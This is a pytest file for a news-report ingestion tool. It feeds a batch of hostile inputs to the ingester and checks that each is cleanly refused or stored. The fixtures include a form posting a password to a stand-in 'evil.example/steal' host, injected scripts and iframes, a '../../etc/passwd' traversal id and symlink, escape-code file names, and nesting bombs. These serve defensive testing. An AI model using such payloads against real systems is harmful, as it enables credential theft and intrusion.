"""Hostile input, one batch: every input is refused with its reason or ingested, none stops the
batch, none leaves a partial record, and the good report among them is stored and analysed.

The inputs are written here into tmp_path (no committed blobs); the network side (private
addresses, feed caps) is tests/reliability/test_network.py.
"""

from __future__ import annotations

import json
import math
import os
import random
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import func, select

from accord.analyze.pipeline import ANALYSIS_VERSION
from accord.check import check_store
from accord.ingest.clean import clean_text
from accord.store import Store, schema
from tests.conftest import run_accord

GOOD = (
    "Levee breach floods Keldmoor\n\n"
    "Rescue teams worked through the night after the levee gave way, and the regional emergency "
    "office said 12 people had died and 340 homes were flooded.\n\n"
    "Officials opened three shelters in schools on the hill and asked residents to boil water.\n"
)
FRENCH = (
    "Crue à Évreux : les digues cèdent\n\n"
    "Les équipes de secours ont travaillé toute la nuit après la rupture de la digue ; la "
    "préfecture a déclaré que douze personnes étaient mortes et que 340 maisons étaient inondées. "
    "Les élèves ont été accueillis dans des écoles du côté de la forêt.\n"
)
SPANISH = (
    "Inundaciones en Sevilla\n\n"
    "El alcalde dijo que 300 niños fueron evacuados y que la región está en alerta. Según la "
    "policía, la situación mejorará mañana. También se cerraron las escuelas del área.\n"
)
RUSSIAN = (
    "Наводнение в Кельдмуре\n\n"
    "Спасатели работали всю ночь после прорыва дамбы. Региональная служба сообщила, что погибли "
    "двенадцать человек, а 340 домов затоплены. Жителей попросили кипятить воду.\n"
)
JAPANESE = (
    "救助隊は堤防が決壊した後、夜通し作業した。地域の緊急事務所によると、十二人が死亡し、"
    "三百四十戸が浸水した。住民には水を沸かすよう求めた。\n"
)


def variant(text: str, town: str) -> str:
    """The good report about another town: distinct text, so that no two inputs are copies."""
    return text.replace("Keldmoor", town)


@dataclass(frozen=True, slots=True)
class Expected:
    """How one input must end: refused with `reason` in its reason, or stored under `key` with
    `words` in its text."""

    name: str
    reason: str | None = None
    key: str | None = None
    words: str = ""


def build_inbox(inbox: Path) -> list[Expected]:
    """Write the hostile inputs into `inbox`; return how each must end."""
    inbox.mkdir()
    rng = random.Random(5)
    out: list[Expected] = []

    def put(name: str, data: bytes, expected: Expected) -> None:
        (inbox / name).write_bytes(data)
        out.append(expected)

    def refused(name: str, data: bytes, reason: str) -> None:
        put(name, data, Expected(name, reason=reason))

    def stored(name: str, data: bytes, key: str, words: str) -> None:
        put(name, data, Expected(name, key=key, words=words))

    # The good report, sorted into the middle of the batch.
    stored("m-good.txt", GOOD.encode(), "m-good", "340 homes")

    # Binary data and NUL bytes under a text name.
    refused("binary.txt", bytes(rng.randrange(256) for _ in range(20_000)), "binary data")
    refused("nul.txt", GOOD.encode()[:80] + b"\x00" + GOOD.encode()[80:], "NUL bytes")
    refused("empty.txt", b"", "empty")
    refused("blank.txt", b"  \n\t\n ", "empty")
    # Near-empty: a word or two, or one stray character, is no report.
    refused("near-empty.txt", b"ok.\n", "too short to be a report")
    refused("one-char.txt", "é".encode(), "too short to be a report")
    refused("near-empty.json", json.dumps({"text": "Hi -- 2"}).encode(), "too short")

    # Every common encoding, each with a word that only decodes right in its own charset.
    for name, text, encoding, words in [
        ("enc-utf8.txt", FRENCH, "utf-8", "cèdent"),
        ("enc-utf8-sig.txt", FRENCH.replace("Évreux", "Évreux-sig"), "utf-8-sig", "Évreux-sig"),
        ("enc-utf16le.txt", FRENCH.replace("Évreux", "Évreux-le"), "utf-16-le", "Évreux-le"),
        ("enc-utf16be.txt", FRENCH.replace("Évreux", "Évreux-be"), "utf-16-be", "Évreux-be"),
        ("enc-utf32.txt", FRENCH.replace("Évreux", "Évreux-32"), "utf-32", "Évreux-32"),
        ("enc-latin1.txt", FRENCH.replace("Évreux", "Vernon"), "latin-1", "préfecture"),
        ("enc-cp1252.txt", SPANISH + "Daños: 5 € por persona.\n", "cp1252", "mañana"),
        ("enc-koi8-r.txt", RUSSIAN, "koi8-r", "Наводнение"),
        ("enc-cp1251.txt", RUSSIAN.replace("Кельдмуре", "Тарнби"), "cp1251", "Тарнби"),
        ("enc-shift_jis.txt", JAPANESE, "shift_jis", "堤防が決壊"),
        ("enc-euc-jp.txt", JAPANESE.replace("十二人", "十三人"), "euc-jp", "十三人"),
    ]:
        bom = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(encoding, b"")
        stored(name, bom + text.encode(encoding), Path(name).stem, words)
    # UTF-16 without its BOM, told by where its NUL bytes fall.
    stored(
        "enc-utf16-nobom.txt",
        FRENCH.replace("Évreux", "Évreux-nb").encode("utf-16-le"),
        "enc-utf16-nobom",
        "Évreux-nb",
    )
    # Broken encodings: a download cut inside the last character, a pasted Latin-1 word,
    # a UTF-16 file cut to an odd length, a BOM before garbage.
    stored(
        "broken-cut.txt",
        variant(GOOD, "Levée").encode() + "é".encode()[:1],
        "broken-cut",
        "Levée",
    )
    stored(
        "broken-mixed.txt",
        variant(GOOD, "Mixton").encode() + "Zürich".encode("latin-1") + "déjà vu\n".encode(),
        "broken-mixed",
        "Mixton",
    )
    refused("broken-utf16.txt", b"\xff\xfe" + FRENCH.encode("utf-16-le")[:-1], "undecodable")
    # Three bytes behind a UTF-16 mark: not a report of one odd character in a guessed charset.
    refused("broken-utf16-short.txt", b"\xff\xfe\xfd", "not UTF-16 (cut or corrupt)")
    refused(
        "broken-bom.txt",
        b"\xef\xbb\xbf" + bytes(rng.randrange(128, 256) for _ in range(3000)),
        "undecodable",
    )

    # A 50 MB single line, as text and as a JSON Lines line followed by a good line.
    refused("big-line.txt", b"word " * 10_000_000, "larger than the cap")
    big_jsonl = b'{"text": "' + b"x" * 50_000_000 + b'"}\n'
    big_jsonl += json.dumps({"id": "after-big", "text": variant(GOOD, "Bigton")}).encode() + b"\n"
    put("big.jsonl", big_jsonl, Expected("big.jsonl:1", reason="line larger than the cap"))
    out.append(Expected("big.jsonl:2", key="after-big", words="Bigton"))
    # A run of symbols spaCy's tokenizer would peel one by one, in quadratic time.
    stored(
        "symbols.txt",
        (variant(GOOD, "Symbolton") + "$" * 20_000 + "\n" + "😀" * 5_000 + "\n").encode(),
        "symbols",
        "Symbolton",
    )

    # HTML: nested past any parser's depth, and a page with scripts, iframes and forms.
    body = "<p>" + variant(GOOD, "Nestville") + "</p>"
    nested = "<html><body>" + "<div>" * 100_000 + body + "</div>" * 100_000 + "</body></html>"
    refused("nested.html", nested.encode(), "nested too deeply to read")
    refused("not-html.html", b"<div></div>", "no article text")  # trafilatura logs ERRORs
    page = (
        "<!doctype html><html><head><title>Floods</title><script>alert('head')</script></head>"
        "<body><iframe src='https://evil.example/'></iframe>"
        "<form action='https://evil.example/steal'><input name='pw' value='secret-pw'></form>"
        "<article><h1>Levee breach floods Tarnby</h1><p>Rescue teams worked through the night "
        "after the levee gave way near Tarnby, and the regional office said 12 people died.</p>"
        "<script>document.write('injected-by-script')</script>"
        "<p onclick=\"alert('click')\">The mayor of Tarnby said 40 volunteers came to help on "
        "Sunday morning with sandbags and boats.</p></article></body></html>"
    )
    stored("scripts.html", page.encode(), "scripts", "40 volunteers")
    refused(
        "only-script.html",
        b"<html><head><script>var a = 1;</script></head><body><script>x()</script></body></html>",
        "no article text",
    )

    # JSON with wrong types and huge numbers.
    refused("type-dict.json", json.dumps({"text": {"nested": True}}).encode(), "is a dict")
    refused("type-bool.json", json.dumps({"text": True}).encode(), "is a bool")
    refused("type-number.json", json.dumps({"text": 12345}).encode(), "is a number")
    # A list is refused, not joined: its items may be words, sentences or paragraphs.
    refused("type-list.json", json.dumps({"id": 5, "text": ["not", "text"]}).encode(), "is a list")
    refused("type-title.json", json.dumps({"text": GOOD, "title": [1, 2]}).encode(), "'title' is a")
    refused("array.json", json.dumps([{"text": GOOD}]).encode(), "not an object")
    refused("deep.json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply")
    refused(
        "deep-field.json",
        b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "nested too deeply",
    )
    refused("huge-int.json", b'{"text": "x", "published": ' + b"9" * 5000 + b"}", "digits")
    huge = variant(GOOD, "Hugeton")
    stored(
        "huge-ok.json",
        (
            '{"id": "huge-ok", "text": ' + json.dumps(huge) + ', "published": ' + "9" * 4000 + ","
            ' "outlet": 1e400, "author": -Infinity, "date": NaN}'
        ).encode(),
        "huge-ok",
        "Hugeton",
    )
    stored(
        "surrogate.json",
        b'{"id": "sur\\ud800", "text": ' + json.dumps(variant(GOOD, "Surrey")).encode() + b"}",
        "sur\\ud800",
        "Surrey",
    )

    # Figures and dates past the calendar and the largest float, in the text and the record:
    # once these crashed the analysis of their whole batch, and of every later ingest.
    extreme = variant(GOOD, "Farfuture") + (
        f"The office said it happened 99999999 days ago and again tomorrow, when {'9' * 400} "
        "people and 1e999 boats were counted, and dozens of dozens of sandbags.\n"
    )
    stored(
        "extreme.json",
        json.dumps({"id": "extreme", "text": extreme, "published": "9999-12-31"}).encode(),
        "extreme",
        "99999999 days ago",
    )

    # JSON Lines with broken lines among good ones.
    lines = [
        json.dumps({"id": "j1", "text": variant(GOOD, "Jayone")}).encode(),
        b"{broken",
        b"[1, 2]",
        b"",
        json.dumps({"id": "j2", "text": variant(GOOD, "Jaytwo")}).encode()[:-5],
        b"\xff\xfe{}",
        json.dumps({"id": "j3", "text": variant(GOOD, "Jaythree"), "date": 1e999}).encode(),
        b'{"id": "j4", "text": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
        json.dumps({"id": "../../etc/passwd", "text": variant(GOOD, "Traversal")}).encode(),
        json.dumps({"id": "j1", "text": "The same key with other text."}).encode(),
        json.dumps({"id": "ctl\x1b[31m\u202e", "text": variant(GOOD, "Controlton")}).encode(),
    ]
    (inbox / "lines.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    out += [
        Expected("lines.jsonl:1", key="j1", words="Jayone"),
        Expected("lines.jsonl:2", reason="not JSON"),
        Expected("lines.jsonl:3", reason="not an object"),
        Expected("lines.jsonl:5", reason="not JSON"),
        Expected("lines.jsonl:6", reason="not UTF-8"),
        Expected("lines.jsonl:7", key="j3", words="Jaythree"),
        Expected("lines.jsonl:8", reason="nested too deeply"),
        Expected("lines.jsonl:9", key="../../etc/passwd", words="Traversal"),
        Expected("lines.jsonl:10", reason="already stored with other text"),
        Expected("lines.jsonl:11", key="ctl\\x1b[31m\\u202e", words="Controlton"),
    ]

    # File names with control characters, a right-to-left override and undecodable bytes.
    stored("evil\x1b[31mred.txt", variant(GOOD, "Escapeton").encode(), "evil\\x1b[31mred", "")
    stored("new\nline.txt", variant(GOOD, "Newlineton").encode(), "new\\nline", "")
    stored("rtl\u202etxt.exe", variant(GOOD, "Rtlton").encode(), "rtl\\u202etxt", "")
    with open(os.fsencode(inbox) + b"/bad\xff.txt", "wb") as fh:
        fh.write(variant(GOOD, "Badbyte").encode())
    out.append(Expected("bad\\udcff.txt", key="bad\\udcff", words="Badbyte"))

    # Symbolic links: a loop, a link to itself, a link to a folder above, one out of the inbox;
    # a FIFO (reading it would block forever) and a folder named like a file.
    (inbox / "loop-a").symlink_to(inbox / "loop-b")
    (inbox / "loop-b").symlink_to(inbox / "loop-a")
    (inbox / "self").symlink_to(inbox / "self")
    (inbox / "sub").mkdir()
    (inbox / "sub" / "up").symlink_to(inbox)
    (inbox / "passwd.txt").symlink_to("/etc/passwd")
    out += [
        Expected(name, reason="symbolic link")
        for name in ("loop-a", "loop-b", "self", "sub/up", "passwd.txt")
    ]
    os.mkfifo(inbox / "fifo.txt")
    out.append(Expected("fifo.txt", reason="not a regular file"))
    (inbox / "folder.txt").mkdir()

    # A feed of thousands of entries pointing at private addresses, saved as a file.
    items = "".join(
        f"<item><title>e{i}</title><link>http://10.0.{i // 250}.{i % 250}/a</link></item>"
        for i in range(5000)
    )
    feed = (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>{items}</channel></rss>'
    )
    refused("feed.xml", feed.encode(), "feed saved as a file")
    return out


def test_hostile_batch_is_refused_or_ingested_and_the_store_stays_sound(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inbox = tmp_path / "inbox"
    expected = build_inbox(inbox)
    db = str(tmp_path / "hostile.db")
    # Arguments too: a path through "..", a link loop named directly, a missing file.
    extra = [str(inbox / "sub" / ".." / "m-good.txt"), str(inbox / "loop-a"), "no/such/file.txt"]
    code, said = run_accord(capsys, "--db", db, "ingest", str(inbox), *extra)
    assert code == 1, said  # inputs were refused
    assert "Traceback" not in said and "internal error" not in said, said

    with Store(db) as store:
        articles = {a.key: a for a in store.articles.all()}
        reasons: dict[str, list[str]] = {}
        for r in store.articles.rejections():
            name = r.source.removeprefix(str(inbox) + "/")
            reasons.setdefault(name, []).append(r.reason)
            assert r.source.isprintable() and r.reason.isprintable(), r
        for want in expected:
            if want.reason is not None:
                assert any(want.reason in got for got in reasons.get(want.name, [])), (
                    want,
                    reasons.get(want.name),
                )
                assert Path(want.name.split(":")[0]).stem not in articles, want
            else:
                assert want.key in articles, (want, reasons.get(want.name))
                assert want.words in articles[want.key].text, (want, articles[want.key].text)
        assert any("leads nowhere" in got for got in reasons["loop-a"])  # named directly
        assert any("no such file" in got for got in reasons["no/such/file.txt"])
        # Nothing else was stored or refused: every input is accounted for, once.
        stored_keys = {w.key for w in expected if w.key is not None}
        assert set(articles) == stored_keys
        refused_names = {w.name for w in expected if w.reason is not None}
        assert set(reasons) == refused_names | {"no/such/file.txt"}

        # Page furniture and markup never reach the stored text.
        scripts = articles["scripts"].text
        for injected in ("alert(", "secret-pw", "injected-by-script", "<script", "<iframe"):
            assert injected not in scripts
        assert max(len(chunk) for chunk in articles["symbols"].text.split()) <= 64
        for article in articles.values():
            assert article.key.isprintable() and article.origin.isprintable()

        # No partial record: every stored report went through every stage.
        with store.read() as conn:
            versions = set(conn.scalars(select(schema.articles.c.analysis_version)))
            placed = conn.scalar(select(func.count()).select_from(schema.memberships))
        assert versions == {ANALYSIS_VERSION}
        assert placed == len(articles)
        assert store.stories.stale() == []
        assert {c.value for c in store.analysis.claims(["m-good"])} >= {12, 340}
        assert all(math.isfinite(c.value) for c in store.analysis.claims())
        assert {t.text for t in store.analysis.times(["extreme"]) if t.when is None} >= {"tomorrow"}
        assert check_store(store) == []

    code, said = run_accord(capsys, "--db", db, "rejects")
    assert code == 0 and "symbolic link" in said and "\x1b" not in said


def test_long_runs_of_symbols_are_broken_and_long_words_are_not() -> None:
    url = "https://example.org/" + "a1b2c3/" * 60
    japanese = "救助隊は堤防が決壊した後、夜通し作業した。" * 50
    text = f"Floods hit the town.\n{'$' * 1000} {url}\n{japanese}\nThe mayor said 40 came.\n"
    cleaned = clean_text(text).text
    assert url in cleaned and japanese in cleaned  # mostly letters and digits: left whole
    assert "$" * 64 in cleaned and "$" * 65 not in cleaned


def test_a_page_that_is_not_html_gets_one_line_and_the_library_detail_only_with_verbose(
    tmp_path: Path,
) -> None:
    """trafilatura logs ERRORs for a page it cannot parse; the console shows accord's refusal
    alone, and the library's lines with -v. Run as a process: in this one pytest's log capture
    would take the library's lines whether they would reach a console or not."""
    page = tmp_path / "broken.html"
    page.write_bytes(b"<div></div>")
    accord = str(Path(sys.executable).with_name("accord"))

    def ingest(*flags: str) -> str:
        run = subprocess.run(
            [accord, *flags, "--db", str(tmp_path / "s.db"), "ingest", str(page)],
            capture_output=True,
            text=True,
            cwd=tmp_path,
            check=False,
        )
        assert run.returncode == 1, run.stderr
        return run.stdout + run.stderr

    quiet = ingest()
    assert "trafilatura" not in quiet and "ERROR" not in quiet, quiet
    assert " ".join(quiet.split()).count("refused") == 1
    assert "no article text" in " ".join(quiet.split())
    verbose = ingest("-v")
    assert "ERROR trafilatura" in verbose, verbose
